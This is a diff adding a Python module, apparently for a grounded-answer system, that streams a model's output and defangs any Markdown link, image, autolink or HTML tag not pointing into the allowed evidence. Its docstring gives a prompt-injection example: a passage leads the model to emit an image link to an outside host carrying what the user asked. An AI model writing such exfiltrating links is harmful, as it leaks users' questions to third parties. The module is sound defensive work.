@@ -1,0 +1,320 @@
+"""The only place where a link or an image of an answer is let through or defanged.
+
+What a model writes is rendered by whoever shows it, and an image is loaded without a click: a passage that makes the
+model write `![x](https://elsewhere/?what-was-asked)` would send away what was asked. So only what is plainly a link
+into the evidence passes as it is. Everything else that CommonMark, a linkifier or a fence that is drawn would turn into
+a link, an image, a tag or a request leaves as text: brackets of Markdown behind a backslash, the `<` of a tag as
+`&lt;`, addresses as `defanged` writes them. Nothing is cut out, so nothing joins.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+
+from groundgraph.answers.links import APART, LinkTargets, address_in, defanged, is_address
+
+# More than this is never held back: a longer address is none of the evidence, a longer line of code is none.
+_MAX_ADDRESS = 2000
+_MAX_CODE = 256
+_MAX_LINE = 200
+# A long text is taken in pieces of this size, so that the time it takes grows with its length and no faster.
+_PIECE = 2048
+_INLINE = r"[^\s()<>\\`\[\]\"']"
+_DEST = rf"(?:{_INLINE}|\({_INLINE}*+\))++"
+_DEST_SO_FAR = rf"<?[^\s<>\\`\[\]\"']{{0,{_MAX_ADDRESS}}}>?"
+_LINK_SO_FAR = re.compile(rf"\]\({_DEST_SO_FAR}\Z")
+_LINK = re.compile(rf"\]\((?:<({_DEST})(?=>[\s)])|({_DEST})(?=[\s)]))")
+_WORD = re.compile(r"\]\((?:[\w\-]++(?=[\s)])|\))")
+_IMAGE = re.compile(rf"!\[([^\[\]`\\<!\r\n]{{0,200}})\]\((?:<({_DEST})(?=>[\s)])|({_DEST})(?=[\s)]))")
+_IMAGE_SO_FAR = re.compile(rf"!\[[^\[\]`\\<!\r\n]{{0,200}}(?:\](?:\({_DEST_SO_FAR})?)?\Z")
+_NO_IMAGE = re.compile(r"!\[[^\[\]`\\<!\r\n]{0,200}\](?!\()")
+_GAP = r"[^\S\r\n]{0,99}+(?:\r\n?|\n)?+[^\S\r\n]{0,99}+"
+# An address that goes on behind the longest is one that is too long, and no text.
+_DEFINITION = re.compile(
+    rf"\]:{_GAP}(?:<({_DEST})>|([^ \t\r\n]{{1,{_MAX_ADDRESS}}}+))(?=[^\S\r\n]{{0,99}}+(?:[\r\n\"'(]|\Z)|\S)"
+)
+_PARTED = re.compile(rf"\]:{_GAP}[^ \t\r\n<]{{0,{_MAX_ADDRESS}}}+<")
+_DEFINITION_SO_FAR = re.compile(rf"\]:{_GAP}[^ \t\r\n]{{0,{_MAX_ADDRESS}}}+[^\S\r\n]{{0,99}}+\Z")
+# Tags that load nothing and lead nowhere, without attributes.
+_TAG = re.compile(
+    r"</?(?:b|i|u|s|em|strong|sub|sup|small|mark|del|ins|q|cite|abbr|kbd|samp|var|code|br|wbr|hr|p|div|span|blockquote|"
+    r"[uod]l|li|d[td]|table|caption|t(?:head|body|foot|r|h|d)|h[1-6]|details|summary) ?/?>",
+    re.IGNORECASE,
+)
+_AUTOLINK = re.compile(rf"<({_DEST})>")
+_TAG_SO_FAR = re.compile(rf"<[^\s<>]{{0,{_MAX_ADDRESS}}}(?: ?/?)\Z")
+_CODE = (re.compile(r"`([^`\r\n|]{1,256})`(?!`)"), re.compile(r"``((?:[^`\r\n|]|(?<!`)`(?!`)){1,256})``(?!`)"))
+# What this gate writes for the bracket of a tag divides as that did.
+_BRACKET = "&lt;"
+_RUN = re.compile(f"(?:[^{APART}!~&]|!(?!\\[)|~(?!~~)|&(?!lt;))+")
+_TICKS = re.compile(r"`+")
+_LINE = re.compile(r"([ \t>*+\-\d.)]{0,60})(`+|~{3,}|~{0,2}\Z)?")
+_LINE_END = re.compile(r"[\r\n]")
+_LANGUAGE = re.compile(r"[ \t]*+([\w+#.\-]*+)[ \t]*+\Z")
+# What else stands behind an address, up to white space, without going on with it; or a bracket, which ends it.
+_ENDS = re.compile(r"(?:[\"'”»」】）》)\]}>*_~.,;:!?…|。，]{0,16}(?=\s|\Z)|(?=[\]})>]))")
+# Languages that pages draw instead of showing them.
+_DRAWN = re.compile(r"mermaid|svg|x?html?|xml|mathml|(?:la)?tex|math|katex|dot|graphviz|plantuml|vega", re.IGNORECASE)
+
+
+@dataclass
+class LinkGate:
+    """Reads a text in pieces of any size and gives it without anything that leads away from `targets`.
+
+    Whatever the pieces, the text that leaves is the same, and every beginning of it is as safe as the whole.
+
+    Attributes:
+        targets: where links and images may lead.
+        removed: where those led that do not any more, defanged, at most 200 characters each.
+    """
+
+    targets: LinkTargets
+    removed: list[str] = field(default_factory=list)
+    _held: str = field(default="", init=False)
+    # The last character that has left, and whether a backslash escapes the next one.
+    _last: str = field(default="", init=False)
+    _escapes: bool = field(default=False, init=False)
+    _line_begins: bool = field(default=True, init=False)
+    _blank: bool = field(default=True, init=False)
+    # The run that opened the fence around what comes; and whether a page may draw what is in it.
+    _fence: str = field(default="", init=False)
+    _drawn: bool = field(default=False, init=False)
+    # Set until the next blank line: what looks like code there may be none to whoever renders it. The last is set for
+    # good at the first fence that need not be one.
+    _in_html: bool = field(default=False, init=False)
+    _unpaired: bool = field(default=False, init=False)
+    _unsure: bool = field(default=False, init=False)
+    # Set within a run that is too long for an address of the evidence.
+    _long: bool = field(default=False, init=False)
+
+    def feed(self, text: str) -> str:
+        """What can be let through after `text` arrived; the rest waits for the next piece."""
+        passed = []
+        for start in range(0, len(text), _PIECE):
+            self._held += text[start : start + _PIECE]
+            passed.append(self._passed(final=False))
+        return "".join(passed)
+
+    def flush(self) -> str:
+        """What still waits, when the text has ended."""
+        return self._passed(final=True)
+
+    def _passed(self, *, final: bool) -> str:
+        passed, text, at = [], self._held, 0
+        while at < len(text):
+            decided = self._next(text, at, final)
+            if decided is None:
+                break
+            piece, at = decided
+            self._leaves(piece)
+            passed.append(piece)
+        self._held = text[at:]
+        return "".join(passed)
+
+    def _leaves(self, piece: str) -> None:
+        if piece:
+            slashes = len(piece) - len(piece.rstrip("\\"))
+            self._escapes = (slashes + (self._escapes and slashes == len(piece))) % 2 == 1
+            self._last = piece[-1]
+            self._blank = self._blank and not piece.strip(" \t")
+
+    def _next(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """What leaves next of `text` from `at` on, and where that ends; nothing while more input could change it."""
+        char = text[at]
+        if self._line_begins:
+            return self._line(text, at, final)
+        if char in "\r\n":
+            if self._blank:
+                self._in_html = self._unpaired = False
+            self._line_begins = self._blank = True
+            self._long = False
+            return char, at + 1
+        run = _RUN.match(text, at)
+        if run:
+            return self._run(text, at, run.end(), final)
+        self._long = False
+        if text.startswith(_BRACKET, at):
+            return _BRACKET, at + len(_BRACKET)
+        if self._fence and not self._drawn:
+            return char, at + 1
+        if char in "`<!]":
+            handler = {"`": self._ticks, "<": self._angle, "!": self._image, "]": self._bracket}[char]
+            return handler(text, at, final)
+        return char, at + 1
+
+    def _line(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """The beginning of a line, as far as a fence opens or closes with it."""
+        found = _LINE.match(text, at)
+        assert found is not None
+        markers, run = found[1], found[2] or ""
+        if found.end() == len(text) and not final and len(found.group()) < _MAX_LINE:
+            return None
+        end = _LINE_END.search(text, found.end(), found.end() + _MAX_LINE)
+        if len(run) >= 3 and end is None and not final and len(text) - found.end() < _MAX_LINE:
+            return None
+        self._line_begins = False
+        if len(run) < 3:
+            return "", at
+        info = text[found.end() : end.start() if end else found.end() + _MAX_LINE]
+        if self._fence:
+            closes = run[0] == self._fence[0] and len(run) >= len(self._fence) and not info.strip(" \t")
+            if closes and len(markers) < 4 and not markers.strip(" "):
+                self._fence = ""
+                self._unpaired = False
+                return text[at : found.end()], found.end()
+            return "", at
+        if markers or self._unsure or self._in_html or "`" in info or (end is None and not final):
+            self._unsure = True
+            return "", at
+        language = _LANGUAGE.match(info)
+        plain = language is not None and not (_DRAWN.fullmatch(language[1]) or is_address(language[1]))
+        self._fence, self._drawn = run, not plain
+        return run, found.end()
+
+    def _run(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
+        """What holds neither white space nor brackets: a word, or an address."""
+        if end - at > _MAX_ADDRESS:
+            self._long = True
+        if self._long:
+            return self._too_long(text, at, end, final)
+        if end == len(text) and not final:
+            return None
+        run, code = text[at:end], bool(self._fence) and not self._drawn
+        piece, allowed, gone = self._address(run, self._last, text[end : end + 1], code=code)
+        if allowed and not self._fence and ("/" in allowed or "?" in allowed):
+            behind = _ENDS.match(text, end, end + 40)
+            if not final and len(text) < end + 20 and not any(char.isspace() for char in text[end:]):
+                return None
+            if behind is None or (behind.end() == end + 40):
+                piece += " "
+        self._note(gone)
+        return piece, end
+
+    def _too_long(self, text: str, at: int, end: int, final: bool) -> tuple[str, int] | None:
+        if end - at < _MAX_ADDRESS and end == len(text) and not final:
+            return None
+        window = text[at : min(end, at + _MAX_ADDRESS)]
+        apart = " " if any(char in window for char in ".:/@&\\") and len(window) == _MAX_ADDRESS else ""
+        piece = defanged(window)
+        if piece != window:
+            self.removed.append(piece[:200])
+        return piece + apart, at + len(window)
+
+    def _address(self, run: str, before: str, after: str = "", *, code: bool) -> tuple[str, str, str]:
+        """`run` as it may leave; the address in it if that is one of the evidence; and what does not pass of it."""
+        # To a linkifier these are letters of the host behind them.
+        joined = before in ("`", "^", "|") and not code
+        if not (is_address(run, before, after, code=code) or (joined and is_address(f"x{run}"))):
+            return run, "", ""
+        start, end = address_in(run)
+        address = run[start:end]
+        joined = joined or is_address(run[:start], before, code=code)
+        allowed = "" if joined else self.targets.allowed_part(address)
+        if allowed:
+            return run[:start] + allowed + run[end:], allowed, address if allowed != address else ""
+        piece = defanged(run)
+        return piece, "", run.strip("()*_'~,;.!?") if piece != run else ""
+
+    def _ticks(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        found = _TICKS.match(text, at)
+        assert found is not None
+        count = len(found.group())
+        if found.end() == len(text) and not final:
+            return None
+        trusted = not (self._escapes or self._unsure or self._in_html or self._unpaired or self._fence)
+        if trusted and count <= len(_CODE):
+            code = _CODE[count - 1].match(text, at)
+            end = code.end() if code else at + _MAX_CODE
+            if not final and len(text) <= end and not _LINE_END.search(text, at):
+                return None
+            if code:
+                ticks, inside = found.group(), code[1]
+                return ticks + _RUN.sub(self._in_code, inside) + ticks, code.end()
+        self._unpaired = True
+        return found.group(), found.end()
+
+    def _in_code(self, run: re.Match[str]) -> str:
+        before = run.string[run.start() - 1] if run.start() else ""
+        piece, _, gone = self._address(run.group(), before, code=True)
+        self._note(gone)
+        return piece
+
+    def _angle(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        tag = _TAG.match(text, at)
+        if tag:
+            self._in_html = True
+            return tag.group(), tag.end()
+        link = _AUTOLINK.match(text, at)
+        if link:
+            allowed = self.targets.allowed_part(link[1]) if ":" in link[1] or "@" in link[1] else ""
+            if allowed:
+                self._note(link[1] if allowed != link[1] else "")
+                return f"<{allowed}>", link.end()
+        elif not final and _TAG_SO_FAR.match(text, at):
+            return None
+        follows = text[at + 1 : at + 2]
+        return (_BRACKET if (follows.isascii() and follows.isalpha()) or follows in ("/", "!", "?") else "<"), at + 1
+
+    def _image(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """`![`; `!` elsewhere is part of a run."""
+        if self._escapes:
+            return "!", at + 1
+        found = _IMAGE.match(text, at)
+        if found:
+            target = found[2] or found[3]
+            allowed = self.targets.allowed_part(target, image=True)
+            if allowed and not self._leads(found[1]):
+                self._note(target if allowed != target else "")
+                return f"![{found[1]}]({'<' if found[2] else ''}{allowed}", found.end()
+        elif not final and _IMAGE_SO_FAR.match(text, at):
+            return None
+        elif (text_only := _NO_IMAGE.match(text, at)) and not self._leads(text_only.group()):
+            return "!", at + 1
+        if found and self.targets.allowed_part(found[2] or found[3]):
+            self._note(found[2] or found[3])
+        return "\\!", at + 1
+
+    def _leads(self, text: str) -> bool:
+        return any(is_address(run, "[") for run in re.split(f"[{APART}]+", text))
+
+    def _bracket(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        follows = text[at + 1 : at + 2]
+        if follows == "(":
+            return self._inline_link(text, at, final)
+        if follows == ":":
+            return self._definition(text, at, final)
+        return None if not follows and not final else ("]", at + 1)
+
+    def _inline_link(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        found = _LINK.match(text, at)
+        if found:
+            target = found[1] or found[2]
+            allowed = self.targets.allowed_part(target)
+            if allowed:
+                self._note(target if allowed != target else "")
+                return f"]({'<' if found[1] else ''}{allowed}", found.end()
+        if _WORD.match(text, at):
+            return "](", at + 2
+        if not found and not final and _LINK_SO_FAR.match(text, at):
+            return None
+        if found and not is_address(found[1] or found[2]):
+            self._note(found[1] or found[2])
+        return "]\\(", at + 2
+
+    def _definition(self, text: str, at: int, final: bool) -> tuple[str, int] | None:
+        """What a reference leads to, and an image may refer to it too."""
+        if not final and _DEFINITION_SO_FAR.match(text, at):
+            return None
+        found = _DEFINITION.match(text, at)
+        if not found:
+            # What is parted by a tag leads to its first part until the next one has come.
+            return ("]\\:" if _PARTED.match(text, at) else "]:"), at + 2
+        target = found[1] or found[2]
+        if re.fullmatch(_DEST, target) and self.targets.allowed_part(target, image=True) == target:
+            return found.group(), found.end()
+        return "]\\:", at + 2
+
+    def _note(self, target: str) -> None:
+        if target:
+            self.removed.append(defanged(target)[:200])
